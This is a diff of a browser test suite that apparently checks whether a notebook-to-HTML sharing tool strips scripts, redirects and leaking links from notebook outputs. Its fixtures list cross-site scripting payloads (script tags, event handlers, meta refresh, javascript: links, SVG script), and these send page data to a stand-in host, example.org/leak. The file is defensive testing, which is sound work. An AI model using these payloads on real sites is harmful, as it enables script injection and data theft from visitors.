@@ -19,7 +19,7 @@ ADDRESS = "https://example.org/leak"
 GO = f"window.pwned=(window.pwned||0)+1;location='{ADDRESS}?'+document.body.innerText.length"
 ATTEMPTS = [
     f"</td></tr></table></script><script>{GO}</script>",
-    f"<img src=x onerror=\"{GO}\"><body onload=\"{GO}\"><details open ontoggle=\"{GO}\"></details>",
+    f'<img src=x onerror="{GO}"><body onload="{GO}"><details open ontoggle="{GO}"></details>',
     f'<meta http-equiv="refresh" content="0;url={ADDRESS}">',
     f'<!-- -- ><meta http-equiv="refresh" content="0;url={ADDRESS}"> -->',
     f'<style>a</style x><meta http-equiv="refresh" content="0;url={ADDRESS}"></style>',
@@ -31,10 +31,11 @@ ATTEMPTS = [
     f'<base href="{ADDRESS}"><form action="{ADDRESS}"><button id="send">Send</button></form>',
     f'<a id="link" href="javascript:{GO.replace(chr(34), "")}">there</a>',
     # Would be taken for the page's own data, or for its own code.
-    '<script type="text/plain" id="workbench-head-0">AAAA</script><p id="workbench-plotly">AAAA</p>',
+    '<script type="text/plain" id="workbench-head-0">AA</script><p id="workbench-plotly">AA</p>',
     # Left open, it would swallow the address and all that follows.
     f'<meta http-equiv="refresh" content="0;url={ADDRESS}?',
 ]
+PICTURE = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{GO}</script></svg>"
 QUOTE = f"She said so.{ATTEMPTS[0]}"
 CELLS = [
     markdown(f"# Dams\n\n<script>{GO}</script>\n\nwell {ATTEMPTS[2]}\n\n{ATTEMPTS[1]}"),
@@ -46,7 +47,7 @@ CELLS = [
         f"for each in {ATTEMPTS!r}:\n    display(HTML(each))",
         f"display(Javascript({GO!r}), Markdown({ATTEMPTS[0]!r}))",
         f"import ipywidgets\nipywidgets.HTML({ATTEMPTS[0]!r})",
-        f"from IPython.display import SVG\nSVG({f'<svg xmlns="http://www.w3.org/2000/svg"><script>{GO}</script></svg>'!r})",
+        f"from IPython.display import SVG\nSVG({PICTURE!r})",
         "import plotly.express as px\npx.bar(x=['a'], y=[1])",
         "HTML('<p>the last one</p>')",
     ),
@@ -60,7 +61,7 @@ def file(tmp_path_factory: pytest.TempPathFactory) -> Path:
         page = share(notebook, progress=False)
     lines = [str(warning.message) for warning in told]
     (scripts,) = [line for line in lines if "a script" in line]
-    assert "the text “Dams”, cell [3], cell [4], cell [5], cell [6]." in scripts
+    assert "cell [3], cell [4], cell [5], cell [6], the text “Dams”." in scripts
     assert any("an order to open another page" in line for line in lines)
     return page
 
@@ -71,7 +72,6 @@ def opened(browser: Browser, file: Path) -> Iterator[SharedPage]:
         assert count(opened.page) == 7
         assert wait_for_figures(opened.page) == 1
         yield opened
-        assert opened.requests == []
 
 
 def test_no_script_of_an_output_runs_and_none_leads_elsewhere(
@@ -80,11 +80,19 @@ def test_no_script_of_an_output_runs_and_none_leads_elsewhere(
     opened.page.wait_for_timeout(500)
     assert opened.page.evaluate("() => window.pwned") is None
     assert opened.page.url == file.as_uri()
-    opened.page.locator("#link").click()
-    opened.page.locator("#send").click()
-    opened.page.wait_for_timeout(200)
-    assert opened.page.evaluate("() => window.pwned") is None
-    assert opened.page.url.split("?")[0] == file.as_uri()
+
+
+def test_no_server_hears_of_the_page_whatever_is_clicked(browser: Browser, file: Path) -> None:
+    click = "() => ['link', 'send'].forEach((id) => document.getElementById(id).click())"
+    with web_server(file.parent) as server:
+        html = file.read_text("utf-8").replace(ADDRESS, f"{server.address}/leak")
+        (file.parent / "here.html").write_text(html, "utf-8")
+        with shared_page(browser, f"{server.address}/here.html", offline=False) as opened:
+            assert count(opened.page) == 7
+            opened.page.evaluate(click)
+            opened.page.wait_for_timeout(500)
+            assert opened.page.evaluate("() => window.pwned") is None
+        assert not [path for path in server.asked if "leak" in path]
 
 
 def test_page_says_what_it_left_out_and_goes_on(opened: SharedPage) -> None:
@@ -94,15 +102,3 @@ def test_page_says_what_it_left_out_and_goes_on(opened: SharedPage) -> None:
     assert "Left out here: an order to open another page" in main
     assert "the last one" in main
     assert "Made from the notebook" in opened.page.locator("footer").inner_text()
-
-
-def test_nothing_is_asked_of_a_server_that_can_be_reached(browser: Browser, file: Path) -> None:
-    with web_server(file.parent) as server:
-        address = f"{server.address}/{file.name}"
-        (file.parent / "here.html").write_text(
-            file.read_text("utf-8").replace(ADDRESS, f"{server.address}/leak"), "utf-8"
-        )
-        with shared_page(browser, address.replace(file.name, "here.html"), offline=False) as opened:
-            assert count(opened.page) == 7
-            opened.page.wait_for_timeout(500)
-        assert not [path for path in server.asked if "leak" in path]
